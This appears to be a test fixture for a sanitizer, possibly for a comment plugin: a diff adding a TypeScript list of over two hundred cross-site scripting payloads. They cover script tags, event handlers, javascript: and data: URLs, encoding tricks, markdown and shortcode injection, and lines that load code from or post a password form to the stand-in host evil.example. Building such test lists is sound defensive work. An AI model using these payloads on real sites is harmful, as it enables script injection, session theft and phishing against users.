@@ -1,0 +1,158 @@
+/**
+ * Texts that have run a script, or drawn something of their author's, on some page of some system: for every
+ * field that a stranger fills in. `alert(1)` stands for whatever they would do.
+ */
+const SCRIPTS = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
+  '<script/x>alert(1)</script>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<script\n>alert(1)</script\n>',
+  '</script><script>alert(1)</script>',
+  '</textarea><script>alert(1)</script>',
+  '</title><script>alert(1)</script>',
+  '--><script>alert(1)</script>',
+  ']]><script>alert(1)</script>',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<!--<img src="--><img src=x onerror=alert(1)//">',
+  '<?xml version="1.0"?><script>alert(1)</script>',
+  '\u0000<scr\u0000ipt>alert(1)</script>',
+  '＜script＞alert(1)＜/script＞',
+  '%3Cscript%3Ealert(1)%3C/script%3E',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;script&#62;alert(1)&#60;/script&#62;',
+  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
+  '{{constructor.constructor("alert(1)")()}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is this very text.
+  '${alert(1)}',
+];
+
+const HANDLERS = [
+  ...['abort', 'error', 'load', 'click', 'focus', 'mouseover', 'pointerenter', 'toggle', 'wheel'],
+  ...['animationstart', 'beforescriptexecute', 'begin', 'canplay', 'copy', 'pageshow', 'transitionend'],
+];
+
+const BEARERS = [
+  '<img src=x on…=alert(1)>',
+  '<svg/on…=alert(1)>',
+  '<details open on…=alert(1)>x</details>',
+  '<a href="https://example.org" on…="alert(1)">x</a>',
+  '"><b on…=alert(1) autofocus tabindex=1>x</b>',
+  "' on…='alert(1)",
+];
+
+const ADDRESSES = [
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  ' javascript:alert(1)',
+  '\tjavascript:alert(1)',
+  '\u0001javascript:alert(1)',
+  'java\nscript:alert(1)',
+  'java&#10;script:alert(1)',
+  'javascript&colon;alert(1)',
+  '&#x6A;avascript:alert(1)',
+  '&#0000106avascript:alert(1)',
+  'javascript:https://example.org/%0Aalert(1)',
+  'vbscript:msgbox(1)',
+  'livescript:alert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  'data:image/svg+xml,<svg onload=alert(1)>',
+  'blob:https://example.org/1',
+  'file:///etc/passwd',
+  'view-source:javascript:alert(1)',
+  '//evil.example',
+  '\\\\evil.example',
+  'https:javascript:alert(1)',
+  'x" onmouseover="alert(1)',
+  "x' onmouseover='alert(1)",
+];
+
+const LINKS = [
+  '[x](…)',
+  '[x](<…>)',
+  '![x](…)',
+  '<…>',
+  '[x][y]\n\n[y]: …',
+  '<a href="…">x</a>',
+  "<a href='…'>x</a>",
+];
+
+const ELEMENTS = [
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="javascript:alert(1)">',
+  '<applet code="x"></applet>',
+  '<base href="https://evil.example/">',
+  '<link rel=stylesheet href=https://evil.example/x.css>',
+  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+  '<style>@import "https://evil.example/x.css";</style>',
+  '<p style="background:url(javascript:alert(1))">x</p>',
+  '<p style="position:fixed;inset:0;z-index:9">x</p>',
+  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
+  '<button formaction=javascript:alert(1)>x</button>',
+  '<input autofocus onfocus=alert(1)>',
+  '<isindex action=javascript:alert(1)>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+  '<math href="javascript:alert(1)">x</math>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text x=1 y=9>x</text></a></svg>',
+  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
+  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<template><script>alert(1)</script></template>',
+  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
+  '<marquee onstart=alert(1)>x</marquee>',
+  '<video><source onerror=alert(1)></video>',
+  '<audio src=x onerror=alert(1)></audio>',
+  '<picture><source srcset=x><img src=x onerror=alert(1)></picture>',
+  '<body onload=alert(1)>',
+  '<frameset onload=alert(1)></frameset>',
+  '<keygen autofocus onfocus=alert(1)>',
+  '<x-element onclick=alert(1)>x</x-element>',
+  '<p id="comments" class="staff" name="cookie">x</p>',
+  '<a id=defaultView href="https://example.org">x</a>',
+  '<dialog open>Your session has ended</dialog>',
+  '<select><style></select><img src=x onerror=alert(1)></style>',
+  '<a href="https://example.org"><img src=x onerror=alert(1)></a>',
+  '<<b>img src=x onerror=alert(1)>',
+  '<img src="x` `<script>alert(1)</script>"` `>',
+  '<img \u2028src=x onerror=alert(1)>',
+  '<img src=x:alert(alt) onerror=eval(src) alt=1>',
+];
+
+const SHORTCODES_AND_MARKDOWN = [
+  '[wpdiscuz-feedback id="1" question="<img src=x onerror=alert(1)>"]x[/wpdiscuz-feedback]',
+  '[caption]<img src=x onerror=alert(1)>[/caption]',
+  '[embed]javascript:alert(1)[/embed]',
+  '`<img src=x onerror=alert(1)>`',
+  '```<script>\nalert(1)\n```',
+  '```"><img src=x onerror=alert(1)>\nx\n```',
+  '[a](https://example.org "x" onmouseover="alert(1)")',
+  '[<img src=x onerror=alert(1)>](https://example.org)',
+  '[x](https://example.org/"onmouseover="alert(1))',
+  "[x](https://example.org/'onmouseover='alert(1))",
+  'https://example.org/"onmouseover="alert(1)',
+  'https://example.org/<script>alert(1)</script>',
+  '<https://example.org/"><script>alert(1)</script>>',
+  '> <script>alert(1)</script>',
+  '- <img src=x onerror=alert(1)>',
+  '\\<script>alert(1)\\</script>',
+  '&amp;lt;script&amp;gt;alert(1)',
+  '**<b onclick=alert(1)>x**</b>',
+  '[x](https://example.org\u0000javascript:alert(1))',
+  '\u202e<script>alert(1)</script>',
+];
+
+/** Well over two hundred of them, each once. */
+export const ATTACKS: readonly string[] = [
+  ...new Set([
+    ...SCRIPTS,
+    ...BEARERS.flatMap((bearer) => HANDLERS.map((handler) => bearer.replace('…', handler))),
+    ...LINKS.flatMap((link) => ADDRESSES.map((address) => link.replace('…', address))),
+    ...ELEMENTS,
+    ...SHORTCODES_AND_MARKDOWN,
+  ]),
+];
